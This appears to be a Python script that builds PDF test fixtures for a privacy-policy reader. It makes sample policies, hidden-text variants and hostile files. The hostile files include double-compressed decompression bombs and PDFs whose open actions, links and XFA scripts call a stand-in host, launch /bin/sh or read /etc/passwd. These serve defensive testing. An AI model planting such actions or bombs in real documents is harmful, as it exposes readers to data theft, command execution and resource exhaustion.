#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes the PDF fixtures of this folder, and the sample of resources/canary, from our own sample policies.

    python3 tests/data/pdf/make.py        # then look at the difference and commit it

A small writer of its own instead of a PDF library: each file shows one thing, and hostile ones have to break
rules that libraries keep. encrypted.pdf needs the program qpdf and differs from run to run.
"""
import pathlib
import subprocess
import zlib

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parents[2]
WIDTH, HEIGHT = 595, 842
REGULAR, BOLD, BOXES = "F1", "F2", "F3"
# Advance widths of Helvetica and Helvetica-Bold, characters 32 to 126, in thousandths (Adobe's font metrics).
WIDTHS = {
    REGULAR: """278 278 355 556 556 889 667 191 333 333 389 584 278 333 278 278 556 556 556 556 556 556 556 556 556
        556 278 278 584 584 584 556 1015 667 667 722 722 667 611 778 722 278 500 667 556 833 722 778 667 778 722
        667 611 722 667 944 667 667 611 278 278 278 469 556 333 556 556 500 556 556 278 556 556 222 222 500 222
        833 556 556 556 556 333 500 278 556 500 722 500 500 500 334 260 334 584""",
    BOLD: """278 333 474 556 556 889 722 238 333 333 389 584 278 333 278 278 556 556 556 556 556 556 556 556 556
        556 333 333 584 584 584 611 975 722 722 722 722 667 611 778 722 278 556 722 611 833 722 778 667 778 722
        667 611 722 667 944 667 667 611 333 278 333 584 556 333 556 611 556 611 556 333 611 611 278 278 556 278
        889 611 611 611 611 389 556 333 611 556 778 556 556 500 389 280 389 584""",
}
WIDTHS = {font: [int(width) for width in widths.split()] for font, widths in WIDTHS.items()}


def width(text, size, font=REGULAR):
    if font == BOXES:
        return len(text) * 0.6 * size
    return sum(WIDTHS[font][ord(c) - 32] if 32 <= ord(c) < 127 else 556 for c in text) * size / 1000


def escaped(text):
    raw = text.encode("cp1252")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


class Page:
    def __init__(self):
        self.parts = []

    def raw(self, code):
        self.parts.append(code if isinstance(code, bytes) else code.encode())

    def text(self, x, top, words, size=10, font=REGULAR, code=""):
        """Words whose baseline is `top` points below the page's upper edge."""
        self.raw(b"q BT %s /%s %s Tf %.2f %.2f Td (%s) Tj ET Q\n" % (
            code.encode(), font.encode(), str(size).encode(), x, HEIGHT - top, escaped(words)))

    def box(self, x, top, wide, high, colour="0 0 0"):
        self.raw("q %s rg %.2f %.2f %.2f %.2f re f Q\n" % (colour, x, HEIGHT - top - high, wide, high))


class Pdf:
    def __init__(self):
        self.pages = []
        self.extra = []          # (number, bytes) of further objects
        self.catalog = b""       # added to the catalog
        self.page_extra = b""    # added to every page
        self.resources = b""
        self.next = 10
        self.size = WIDTH, HEIGHT

    def page(self):
        self.pages.append(Page())
        return self.pages[-1]

    def add(self, body):
        self.next += 1
        self.extra.append((self.next, body))
        return self.next

    def stream(self, data, entries=b"", compress=True):
        if compress:
            data = zlib.compress(data, 9)
            entries += b" /Filter /FlateDecode"
        return self.add(b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data))

    def write(self, path):
        path.write_bytes(self.bytes())

    def boxes_font(self):
        """A font without a file: each letter is a box, so that no reader needs fonts of the system."""
        letters = range(32, 127)
        glyph = self.stream(b"600 0 0 0 500 700 d1 50 0 400 600 re f", compress=False)
        blank = self.stream(b"600 0 0 0 0 0 d1", compress=False)
        names = {32: "space", 46: "period", 44: "comma", 58: "colon", 45: "hyphen", 39: "quotesingle"}
        used = [n for n in letters if n in names or chr(n).isalnum()]
        digits = "zero one two three four five six seven eight nine".split()
        name = lambda n: names.get(n) or (digits[n - 48] if chr(n).isdigit() else chr(n))
        procs = " ".join("/%s %d 0 R" % (name(n), blank if n == 32 else glyph) for n in used)
        differences = " ".join("%d /%s" % (n, name(n)) for n in used)
        return ("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 600 700] /FontMatrix [0.001 0 0 0.001 0 0] "
                "/FirstChar 32 /LastChar 126 /Widths [%s] /CharProcs << %s >> /Encoding << /Type /Encoding "
                "/Differences [%s] >> /Resources << >> >>" % ("600 " * 95, procs, differences)).encode()

    def bytes(self):
        uses_boxes = any(b"/" + BOXES.encode() in part for page in self.pages for part in page.parts)
        boxes = self.add(self.boxes_font()) if uses_boxes else 0
        objects = {1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % self.catalog}
        for number, name in ((3, b"Helvetica"), (4, b"Helvetica-Bold")):
            objects[number] = (b"<< /Type /Font /Subtype /Type1 /BaseFont /%s /Encoding /WinAnsiEncoding >>" % name)
        fonts = b"/F1 3 0 R /F2 4 0 R" + (b" /F3 %d 0 R" % boxes if boxes else b"")
        kids = []
        for page in self.pages:
            content = self.stream(b"".join(page.parts))
            kids.append(self.add(
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents %d 0 R /Resources << /Font << %s >> %s >> "
                b"%s >>" % (*self.size, content, fonts, self.resources, self.page_extra)))
        objects[2] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (
            len(kids), b" ".join(b"%d 0 R" % kid for kid in kids))
        objects.update(self.extra)
        out, offsets = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"), {}
        for number in sorted(objects):
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
        start, size = len(out), max(objects) + 1
        out += b"xref\n0 %d\n" % size
        for number in range(size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
        return bytes(out)


def wrapped(words, room, size, font=REGULAR, broken=()):
    """Lines of at most `room` points; `broken` has words with the place where a hyphen may break them."""
    lines, line = [], ""
    for word in words.split():
        longer = (line + " " + word).strip()
        if width(longer, size, font) <= room:
            line = longer
            continue
        halves = next((b for b in broken if word.startswith(b.replace("|", ""))), None)
        if halves:
            first, second = halves.split("|")
            if width(line + " " + first + "-", size, font) <= room:
                lines.append(line + " " + first + "-")
                line = second + word[len(first) + len(second):]
                continue
        lines.append(line)
        line = word
    return lines + [line]


def blocks_of(policy):
    text = (ROOT / "resources" / "samples" / policy).read_text()
    text = text.replace("\n\u2022 ", "\n- ").replace("\n- ", "\n\n- ") # each item is a block
    return [" ".join(block.split()) for block in text.split("\n\n") if block.strip()]


def is_heading(block):
    return len(block) < 70 and not block.endswith((".", ":")) and not block.startswith(("-", "*"))


class Flow:
    """Sets blocks in columns, page after page."""

    def __init__(self, columns=1, header=None, footer=None, size=10, gutter=24, broken=()):
        self.pdf, self.columns, self.header, self.footer = Pdf(), columns, header, footer
        self.size, self.gutter, self.broken = size, gutter, broken
        self.room = (WIDTH - 120 - gutter * (columns - 1)) / columns
        self.column, self.top, self.start = columns, 0, 80
        self.here = None

    def advance(self, lines=1):
        if self.column < self.columns and self.top + lines * 1.25 * self.size <= HEIGHT - 80:
            return
        self.column += 1
        if self.column >= self.columns:
            self.column, self.start = 0, 80
            self.here = self.pdf.page()
            number = len(self.pdf.pages)
            if self.header:
                self.here.text(60, 45, self.header.replace("#", str(number)), 8)
            if self.footer:
                self.here.text(280, HEIGHT - 40, self.footer.replace("#", str(number)), 8)
        self.top = self.start

    def line(self, words, size, font, indent=0):
        self.advance()
        self.here.text(60 + self.column * (self.room + self.gutter) + indent, self.top, words, size, font)
        self.top += 1.25 * size

    def title(self, words):
        self.advance()
        self.here.text(60, self.top, words, 20, BOLD)
        self.start = self.top = self.top + 40

    def heading(self, words):
        self.top += 8
        self.advance(4)
        for line in wrapped(words, self.room, 13, BOLD):
            self.line(line, 13, BOLD)
        self.top += 4

    def paragraph(self, words):
        for line in wrapped(words, self.room, self.size, REGULAR, self.broken):
            self.line(line, self.size, REGULAR)
        self.top += 7

    def item(self, marker, words, depth=0):
        indent = 14 + 16 * depth
        for i, line in enumerate(wrapped(words, self.room - indent - 12, self.size)):
            if i == 0:
                self.advance()
                self.here.text(60 + self.column * (self.room + self.gutter) + indent - 2, self.top, marker, self.size)
            self.line(line, self.size, REGULAR, indent + 12)
        self.top += 3

    def policy(self, name):
        blocks = blocks_of(name)
        self.title(blocks[0].title() if blocks[0].isupper() else blocks[0])
        for block in blocks[1:]:
            if is_heading(block) and "updated" not in block and "Effective" not in block:
                self.heading(block)
            elif block.startswith("- "):
                self.item("\u2022", block[2:])
            else:
                self.paragraph(block)
        return self.pdf


BROKEN = ("infor|mation", "per|sonal", "servi|ces", "cus|tomer", "com|pany", "pro|vide", "pur|poses", "adver|tising",
          "invi|tation", "sub|scription", "automati|cally", "work|space", "control|ler", "proces|sor")


def policies():
    Flow(header="Larkfield Analytics privacy policy", footer="Page # of 3").policy(
        "larkfield-privacy.txt").write(HERE / "one-column.pdf")
    Flow(columns=2, header="Larkfield Analytics", footer="#", broken=BROKEN).policy(
        "larkfield-privacy.txt").write(HERE / "two-columns.pdf")
    Flow(footer="#").policy("brindle-privacy.txt").write(HERE / "brindle.pdf")


def table(page, top, rows, columns, size=10):
    for row in rows:
        cells = [wrapped(cell, room - 8, size, BOLD if row is rows[0] else REGULAR)
                 for cell, (_, room) in zip(row, columns)]
        for lines, (x, _) in zip(cells, columns):
            for i, line in enumerate(lines):
                page.text(x, top + i * 12, line, size, BOLD if row is rows[0] else REGULAR)
        top += max(map(len, cells)) * 12 + 8
    return top


def lists_and_table():
    flow = Flow()
    flow.title("Fennel Post privacy notice")
    for entry, number in (("1. What we keep", 1), ("2. How long we keep it", 1)):
        dots = "." * int((440 - width(entry, 10)) / 2.78)
        flow.line(entry + " " + dots + " " + str(number), 10, REGULAR)
    flow.top += 10
    flow.heading("1. What we keep")
    flow.paragraph("We keep the following when you send a parcel with us, and nothing else unless you tell us so:")
    flow.item("\u2022", "your name, your postal address and the telephone number that the driver calls when nobody "
              "opens the door")
    flow.item("\u2022", "what you paid and how:")
    flow.item("-", "the last four digits of a card", 1)
    flow.item("-", "the account that a refund goes to", 1)
    flow.item("\u2022", "where the parcel was scanned")
    flow.paragraph("Numbers in brackets order what follows.")
    flow.item("(a)", "You may see what we hold about you.")
    flow.item("(b)", "You may have it put right or erased, whenever keeping it has no purpose any more and no law "
              "obliges us to.")
    flow.heading("2. How long we keep it")
    flow.top = table(flow.here, flow.top + 6, [
        ("Data", "Purpose", "Period"),
        ("Address", "To deliver the parcel and to bring it back when nobody takes it in", "90 days"),
        ("Invoices", "Tax law", "10 years"),
        ("Telephone number", "To call you at the door", "14 days after the delivery"),
    ], ((60, 110), (170, 220), (390, 140))) + 8
    flow.paragraph("After these periods we erase the data or make sure that nobody can be told from them.")
    flow.pdf.write(HERE / "lists-and-table.pdf")


def hidden():
    """One kind of hidden words a file, between two visible sentences."""
    secret = "We may sell your data to anyone"

    def page(name, draw):
        pdf = Pdf()
        here = pdf.page()
        here.text(60, 80, "Hidden words", 20, BOLD)
        here.text(60, 120, "This sentence stands above the hidden one.")
        draw(here)
        here.text(60, 160, "This sentence stands below the hidden one.")
        pdf.write(HERE / ("hidden-%s.pdf" % name))

    page("none", lambda p: p.text(60, 140, "We never sell your data"))
    page("grey", lambda p: p.text(60, 140, secret, code="0.6 g"))
    page("on-dark", lambda p: (p.box(55, 128, 300, 18, "0 0 0.4"), p.text(60, 140, secret, code="1 g")))
    page("white", lambda p: p.text(60, 140, secret, code="1 g"))
    page("nearly-white", lambda p: p.text(60, 140, secret, code="0.98 0.98 0.97 rg"))
    page("invisible", lambda p: p.text(60, 140, secret, code="3 Tr"))
    page("tiny", lambda p: p.text(60, 140, secret, size=1))
    page("covered", lambda p: (p.text(60, 140, secret), p.box(55, 128, 300, 18, "0.3 0.3 0.6")))
    page("covered-white", lambda p: (p.text(60, 140, secret), p.box(55, 128, 300, 18, "1 1 1")))
    page("same-colour", lambda p: (p.box(55, 128, 300, 18, "0 0.4 0"), p.text(60, 140, secret, code="0 0.4 0 rg")))
    page("clipped", lambda p: p.raw(b"q 0 0 10 10 re W n BT /F1 10 Tf 60 702 Td (%s) Tj ET Q\n" % secret.encode()))
    page("white-within-line", lambda p: (p.text(60, 140, "We do"), p.text(60 + width("We do ", 10), 140, "not", code="1 g"),
                                         p.text(60 + width("We do not ", 10), 140, "sell your data to anyone")))


def pictures():
    data = bytes((x * 7 + y * 13) % 251 for y in range(60) for x in range(60))
    for name, with_text in (("scanned", False), ("half-scanned", True)):
        pdf = Pdf()
        image = pdf.stream(data, b" /Type /XObject /Subtype /Image /Width 60 /Height 60 /ColorSpace /DeviceGray "
                                 b"/BitsPerComponent 8")
        pdf.resources = b"/XObject << /Im %d 0 R >>" % image
        for number in range(2):
            page = pdf.page()
            if with_text and number == 0:
                page.text(60, 80, "This page can be read.")
            else:
                page.raw("q 500 0 0 700 40 60 cm /Im Do Q\n")
        pdf.write(HERE / (name + ".pdf"))


def hostile():
    pdf = Pdf()
    pdf.page().text(60, 80, "Locked words.")
    pdf.write(HERE / "plain.tmp")
    subprocess.run(["qpdf", "--encrypt", "open sesame", "owner", "256", "--", HERE / "plain.tmp",
                    HERE / "encrypted.pdf"], check=True)
    (HERE / "plain.tmp").unlink()
    # 1 GiB of blanks, then of nothing but a fill operator again and again, each packed twice
    for name, unit in (("bomb-blanks", b" " * 4096), ("bomb-fills", b"0 0 1 1 re f\n" * 300)):
        pdf = Pdf()
        pdf.page().text(60, 80, "Small file, much work.")
        packer, packed = zlib.compressobj(9), bytearray()
        for _ in range((1 << 30) // len(unit)):
            packed += packer.compress(unit)
        twice = zlib.compress(bytes(packed + packer.flush()), 9)
        bomb = pdf.add(b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream"
                       % (len(twice), twice))
        pdf.page_extra = b"/Contents %d 0 R" % bomb
        pdf.write(HERE / (name + ".pdf"))


def phone_home():
    """What a document may ask a viewer to fetch, open or run."""
    url = b"http://phone-home.example/"
    asks = {
        "uri-on-open": b"<< /S /URI /URI (%s) >>" % url,
        "launch-program": b"<< /S /Launch /F (/bin/sh) >>",
        "launch-url": b"<< /S /Launch /F << /FS /URL /F (%s) >> >>" % url,
        "javascript-url": b"<< /S /JavaScript /JS (app.launchURL('%s', true);) >>" % url,
        "javascript-soap": b"<< /S /JavaScript /JS (SOAP.connect('%s');) >>" % url,
        "javascript-file": b"<< /S /JavaScript /JS (util.readFileIntoStream('/etc/passwd');) >>",
        "submit-form": b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Flags 4 >>" % url,
        "import-data": b"<< /S /ImportData /F (/etc/passwd) >>",
        "go-to-remote": b"<< /S /GoToR /F (/etc/hostname) /D [0 /Fit] >>",
        "go-to-embedded": b"<< /S /GoToE /F (/etc/hostname) /D [0 /Fit] >>",
        "thread": b"<< /S /Thread /F (/etc/hostname) /D 0 >>",
        "movie": b"<< /S /Movie /T (m) >>",
        "rendition": b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (%s) >> >> >> >>" % url,
    }
    for name, action in asks.items():
        pdf = Pdf()
        pdf.page().text(60, 80, "Nothing is fetched.")
        pdf.catalog = b"/OpenAction %s /AA << /WC %s >>" % (action, action)
        pdf.page_extra = (b"/AA << /O %s >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A %s >>]"
                          % (action, action))
        pdf.write(HERE / "phone-home" / (name + ".pdf"))
    outside = {
        "external-stream": b"<< /Length 0 /F (/etc/passwd) /Type /XObject /Subtype /Form /BBox [0 0 9 9] >>",
        "external-url-stream": b"<< /Length 0 /F << /FS /URL /F (%s) >> /Type /XObject /Subtype /Form /BBox [0 0 9 9] >>"
                               % url,
        "external-image": b"<< /Length 0 /F (/etc/passwd) /Type /XObject /Subtype /Image /Width 8 /Height 8 "
                          b"/ColorSpace /DeviceGray /BitsPerComponent 8 >>",
        "reference": b"<< /Length 0 /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/hostname) /Page 0 >> >>",
        "opi-image": b"<< /Length 0 /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
                     b"/BitsPerComponent 8 /OPI << /1.3 << /F (/etc/hostname) >> >> >>",
    }
    for name, thing in outside.items():
        pdf = Pdf()
        number = pdf.add(thing + b"\nstream\n\nendstream")
        pdf.resources = b"/XObject << /X %d 0 R >>" % number
        page = pdf.page()
        page.text(60, 80, "Nothing is fetched.")
        page.raw("q 90 0 0 90 60 600 cm /X Do Q\n")
        pdf.write(HERE / "phone-home" / (name + ".pdf"))
    pdf = Pdf()
    page = pdf.page()
    page.text(60, 80, "Nothing is fetched.")
    font = pdf.add(b"<< /Type /Font /Subtype /TrueType /BaseFont /../../../../etc/passwd /Encoding /WinAnsiEncoding >>")
    pdf.resources = b"/Font << /F1 3 0 R /F9 %d 0 R >>" % font
    page.raw("BT /F9 10 Tf 60 700 Td (A font by a path.) Tj ET\n")
    pdf.write(HERE / "phone-home" / "font-by-path.pdf")
    pdf = Pdf()
    pdf.page().text(60, 80, "Nothing is fetched.")
    packet = b"<template><subform><field><ui/><script>xfa.host.gotoURL('%s')</script></field></subform></template>" % url
    pdf.catalog = b"/AcroForm << /Fields [] /XFA %d 0 R >>" % pdf.stream(packet)
    pdf.write(HERE / "phone-home" / "xfa.pdf")


def canary():
    """Reading it touches every part of the reader: text, sizes, paragraphs, ink. No fonts are needed, and the page
    is small, as it is drawn before every document."""
    pdf = Pdf()
    pdf.size = 320, 100
    page = pdf.page()
    for top, words, size, code in ((30, "Canary", 20, ""), (50, "This sample is read before every document: if", 10, ""),
                                   (62, "any of it is missing, no answer can be trusted.", 10, ""),
                                   (85, "Nobody sees this", 10, "1 g")):
        page.text(10, top + HEIGHT - 100, words, size, BOXES, code)
    pdf.write(ROOT / "resources" / "canary" / "sample.pdf")


if __name__ == "__main__":
    (HERE / "phone-home").mkdir(exist_ok=True)
    policies()
    lists_and_table()
    hidden()
    pictures()
    hostile()
    phone_home()
    canary()
